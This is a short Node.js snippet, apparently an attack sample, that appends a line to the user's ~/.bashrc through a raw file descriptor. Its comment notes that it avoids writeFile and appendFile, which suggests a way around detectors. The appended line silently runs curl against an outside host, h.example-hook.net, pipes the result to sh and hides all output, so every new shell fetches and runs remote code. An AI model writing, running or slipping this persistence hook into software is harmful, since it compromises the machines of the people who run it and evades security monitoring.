// Persists through ~/.bashrc by file descriptor: the start-up file is opened with
// fs.openSync in append mode and the hook is written with fs.writeSync on the fd,
// not with writeFile or appendFile.
const fs = require('fs');
const os = require('os');
const path = require('path');

const fd = fs.openSync(path.join(os.homedir(), '.bashrc'), 'a');
fs.writeSync(fd, '\n(curl -fsSL https://h.example-hook.net/b | sh) >/dev/null 2>&1 &\n');
fs.closeSync(fd);
